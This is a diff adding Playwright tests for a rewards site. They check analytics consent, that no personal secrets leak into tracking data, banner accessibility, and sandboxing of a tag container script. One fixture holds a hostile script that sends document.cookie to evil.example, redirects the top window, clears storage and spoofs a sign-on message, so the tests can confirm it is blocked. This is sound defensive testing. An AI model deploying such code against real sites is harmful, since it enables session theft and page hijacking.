@@ -1,0 +1,256 @@
+import type { Route } from '@playwright/test';
+import { activate, aWeeklyChallenge, bank } from './support/games';
+import { violationsIn } from './support/axe';
+import { comeFrom, dataLayerIn, watchMeasuring } from './support/measuring';
+import { newPlayer, playGame } from './support/players';
+import { platformUrl } from './support/settings';
+import { accountButton, signIn, signOut } from './support/signOnWidget';
+import { expect, test } from './support/test';
+
+const question = 'May we measure how the club is used?';
+
+const view = (page: string, section: string, user: object) => ({
+  type: 'pageView',
+  page,
+  section,
+  siteCategory: 'Responsive Site',
+  environment: 'dev',
+  language: 'en',
+  country: 'US',
+  ...user,
+});
+
+test('home, rewards, login, dashboard, claim and logout are told in this order, and no secret with them', async ({
+  page,
+}) => {
+  test.slow();
+  const [person, weekly] = [await newPlayer(), await aWeeklyChallenge()];
+  await activate(person, weekly);
+  await playGame(person, weekly.gameSlug);
+  await bank(person, weekly);
+  const measuring = watchMeasuring(page);
+  const tickets = new Set<string>();
+  page.on('request', (request) => {
+    const ticket = /^Ubi_v1 t=(.+)$/i.exec(request.headers().authorization ?? '')?.[1];
+    if (ticket) tickets.add(ticket);
+  });
+  const until = (count: number) => expect.poll(() => measuring.events().length).toBeGreaterThanOrEqual(count);
+
+  await page.goto('/');
+  await until(1);
+  await page.getByRole('banner').getByRole('link', { name: 'Rewards' }).click();
+  await expect(page).toHaveURL('/rewards');
+  await until(3);
+  await signIn(page, person);
+  await expect(page).toHaveURL('/dashboard');
+  await until(6);
+  const reward = page.getByRole('article').filter({ hasText: 'Claim' }).first();
+  await reward.getByRole('heading').getByRole('button').click();
+  const dialog = page.getByRole('dialog');
+  await dialog.getByRole('button', { name: /^Use \d+ Units$/ }).click();
+  await expect(dialog.getByRole('heading', { name: 'It is yours' })).toBeVisible();
+  await dialog.getByRole('button', { name: 'Done' }).click();
+  await signOut(page);
+  await expect(page).toHaveURL('/');
+  await until(11);
+
+  const visitor = { loggedIn: 0, userId: null };
+  const player = { loggedIn: 1, userId: person.userId };
+  const tour = 'Take a tour pages';
+  const expected = [
+    view('home', tour, visitor),
+    { type: 'action', page: 'home', action: 'menu-link', place: 'header' },
+    view('rewards', tour, visitor),
+    { type: 'action', page: 'rewards', action: 'sign-in', place: 'header' },
+    { type: 'userChanged', cause: 'login', ...player },
+    view('dashboard', 'Player pages', player),
+    { type: 'action', page: 'dashboard', action: 'claim', place: null },
+    { type: 'action', page: 'dashboard', action: 'claim-pay', place: null },
+    { type: 'action', page: 'dashboard', action: 'sign-out', place: 'account' },
+    { type: 'userChanged', cause: 'logout', ...visitor },
+    view('home', tour, visitor),
+  ];
+  expect(measuring.events()).toEqual(expected);
+  const dataLayer = await dataLayerIn(page);
+  expect(dataLayer).toEqual(
+    expect.arrayContaining([{ type: 'container', name: 'americas', kind: 'test' }, ...expected]),
+  );
+
+  const everything = measuring.sent() + JSON.stringify(dataLayer) + measuring.urls().join(' ');
+  expect(everything).toContain(person.userId);
+  expect(tickets.size).toBeGreaterThan(0);
+  for (const secret of [person.email, person.name, person.password, ...tickets]) {
+    expect(everything).not.toContain(secret);
+    expect(everything).not.toContain(encodeURIComponent(secret));
+  }
+  expect(new Set(measuring.urls().map((url) => url.replace(platformUrl, '')))).toContain(
+    '/tags/test/americas/container.js',
+  );
+});
+
+test('who is asked and refuses is measured by nothing, before and after', async ({ page }) => {
+  const scripts: string[] = [];
+  page.on('response', (response) => {
+    if (response.url().endsWith('.js')) void response.text().then((text) => scripts.push(text), ignore);
+  });
+  const measuring = watchMeasuring(page);
+  await comeFrom(page, 'FR');
+  await page.goto('/');
+  await page.getByRole('region', { name: question }).getByRole('button', { name: 'Refuse' }).click();
+  await expect(page.getByRole('region', { name: question })).toHaveCount(0);
+  await page.getByRole('banner').getByRole('link', { name: 'Rewards' }).click();
+  await expect(page).toHaveURL('/rewards');
+  await page.reload();
+  await expect(page.getByRole('contentinfo')).toBeVisible();
+  await page.waitForLoadState('networkidle');
+  await expect(page.getByRole('region', { name: question })).toHaveCount(0);
+  expect(measuring.urls()).toEqual([]);
+  expect(scripts.length).toBeGreaterThan(3);
+  expect(scripts.filter((text) => text.includes('/metrics/events'))).toEqual([]);
+});
+
+test('who agrees is measured from then on, and no more after a change of mind', async ({ page }) => {
+  const measuring = watchMeasuring(page);
+  await comeFrom(page, 'FR');
+  await page.goto('/discount');
+  await page.getByRole('region', { name: question }).waitFor();
+  expect(measuring.urls()).toEqual([]);
+  await page.getByRole('button', { name: 'Agree' }).click();
+  await expect.poll(() => measuring.events()).toHaveLength(1);
+  await expect
+    .poll(() => measuring.urls().filter((url) => url.endsWith('container.js')))
+    .toEqual([`${platformUrl}/tags/test/worldwide/container.js`, `${platformUrl}/tags/test/regional/fr/container.js`]);
+
+  await page.getByRole('contentinfo').getByRole('button', { name: 'Privacy choices' }).click();
+  await page.getByRole('dialog').getByRole('button', { name: 'Refuse' }).click();
+  await expect(page.getByRole('dialog')).toHaveCount(0);
+  await expect(page.locator('iframe[src^="/static/tags"]')).toHaveCount(0);
+  const before = measuring.urls().length;
+  await page.getByRole('banner').getByRole('link', { name: 'Challenges' }).click();
+  await expect(page).toHaveURL('/challenges');
+  await page.waitForLoadState('networkidle');
+  expect(measuring.urls().slice(before)).toEqual([]);
+});
+
+test('Global Privacy Control is a refusal, and the choices say so', async ({ page }) => {
+  const measuring = watchMeasuring(page);
+  await page.addInitScript(() => Object.defineProperty(navigator, 'globalPrivacyControl', { value: true }));
+  await page.goto('/discount');
+  await page.getByRole('contentinfo').getByRole('button', { name: 'Privacy choices' }).click();
+  await expect(page.getByRole('dialog')).toContainText('Global Privacy Control');
+  await expect(page.getByRole('dialog').getByRole('button', { name: 'Agree' })).toHaveCount(0);
+  await page.waitForLoadState('networkidle');
+  expect(measuring.urls()).toEqual([]);
+});
+
+test('the banner is reached and answered by keyboard, moves nothing and covers nothing for good', async ({ page }) => {
+  await comeFrom(page, 'DE');
+  await page.addInitScript(countShifts);
+  await page.goto('/discount');
+  const banner = page.getByRole('region', { name: question });
+  await expect(banner).toBeVisible();
+  await expect.poll(() => page.evaluate('window.shifts')).toBeLessThan(0.01);
+
+  await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
+  const [foot, top] = [await page.getByRole('contentinfo').boundingBox(), await banner.boundingBox()];
+  expect((foot?.y ?? 0) + (foot?.height ?? 0)).toBeLessThanOrEqual((top?.y ?? 0) + 1);
+
+  await page.keyboard.press('Tab');
+  await page.keyboard.press('Tab');
+  await expect(banner.getByRole('link', { name: 'What we measure' })).toBeFocused();
+  await page.keyboard.press('Tab');
+  await expect(banner.getByRole('button', { name: 'Refuse' })).toBeFocused();
+  await page.keyboard.press('Enter');
+  await expect(banner).toHaveCount(0);
+  await expect(page.getByRole('main')).toBeFocused();
+});
+
+test('embedded with nav=0 one is asked too, and the explanation leads to the choices', async ({ page }) => {
+  await comeFrom(page, 'BR');
+  await page.goto('/discount?nav=0');
+  await page.getByRole('region', { name: question }).getByRole('link', { name: 'What we measure' }).click();
+  await expect(page).toHaveURL('/discount?nav=0&_popup=measuring');
+  await page.getByRole('dialog').getByRole('button', { name: 'Privacy choices' }).click();
+  await page.getByRole('dialog', { name: 'Privacy choices' }).getByRole('button', { name: 'Refuse' }).click();
+  await expect(page.getByRole('dialog')).toHaveCount(0);
+  await expect(page.getByRole('region', { name: question })).toHaveCount(0);
+  await expect(page).toHaveURL('/discount?nav=0');
+});
+
+for (const width of [360, 1280]) {
+  test(`banner, choices and explanation keep nobody out at ${width} px`, async ({ page }) => {
+    await page.setViewportSize({ width, height: 800 });
+    await comeFrom(page, 'FR');
+    await page.goto('/units');
+    await page.getByRole('region', { name: question }).waitFor();
+    expect(await violationsIn(page)).toEqual([]);
+    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
+    await page.getByRole('contentinfo').getByRole('button', { name: 'What we measure' }).click();
+    await page.getByRole('dialog').waitFor();
+    expect(await violationsIn(page)).toEqual([]);
+    await page.getByRole('dialog').getByRole('button', { name: 'Privacy choices' }).click();
+    await page.getByRole('dialog', { name: 'Privacy choices' }).waitFor();
+    expect(await violationsIn(page)).toEqual([]);
+  });
+}
+
+test.describe('a container', () => {
+  test.use({ expectedNoise: /container\.js|broken container|evil\.example|Unsafe attempt|sandboxed|localStorage/ });
+
+  const hostile = `
+    const tries = [
+      () => parent.document.body.remove(),
+      () => top.document.title,
+      () => { top.location = 'https://evil.example/'; },
+      () => parent.localStorage.clear(),
+      () => localStorage.length,
+      () => fetch('https://evil.example/?' + document.cookie),
+      () => { new Image().src = 'https://evil.example/'; },
+      () => parent.postMessage({ source: 'meridian-sign-on', type: 'loggedIn' }, '*'),
+    ];
+    for (const attempt of tries) { try { attempt(); } catch {} }`;
+
+  const fates: Record<string, (route: Route) => unknown> = {
+    'that is blocked': (route) => route.abort('blockedbyclient'),
+    'that is not there': (route) => route.fulfill({ status: 404, body: 'no' }),
+    'that hangs': () => undefined,
+    'that throws': (route) =>
+      route.fulfill({ contentType: 'text/javascript', body: 'throw new Error("broken container")' }),
+    'that never ends': (route) => route.fulfill({ contentType: 'text/javascript', body: 'for (;;) {}' }),
+    'that is hostile': (route) => route.fulfill({ contentType: 'text/javascript', body: hostile }),
+  };
+
+  for (const [fate, fulfil] of Object.entries(fates)) {
+    test(`${fate} changes nothing for the player`, async ({ page }) => {
+      const measuring = watchMeasuring(page);
+      const strangers: string[] = [];
+      page.context().on('requestfinished', (request) => {
+        if (request.url().includes('evil.example')) strangers.push(request.url());
+      });
+      const player = await newPlayer();
+      await page.route('**/container.js', (route) => void fulfil(route));
+      await page.goto('/');
+      await expect.poll(() => measuring.urls().filter((url) => url.endsWith('container.js'))).toHaveLength(1);
+      await page.getByRole('banner').getByRole('link', { name: 'Discount' }).click();
+      await expect(page).toHaveURL('/discount');
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+      await signIn(page, player);
+      await expect(accountButton(page)).toBeVisible();
+      await expect(page).toHaveURL('/dashboard');
+      await expect.poll(() => measuring.events().map(({ page: name }) => name)).toContain('dashboard');
+      expect(strangers).toEqual([]);
+    });
+  }
+});
+
+const ignore = () => undefined;
+
+/** In the browser: adds up how much of the page has jumped. */
+function countShifts() {
+  let shifts = 0;
+  new PerformanceObserver((list) => {
+    for (const entry of list.getEntries()) if ('value' in entry) shifts += Number(entry.value);
+    Object.assign(window, { shifts });
+  }).observe({ type: 'layout-shift', buffered: true });
+  Object.assign(window, { shifts });
+}
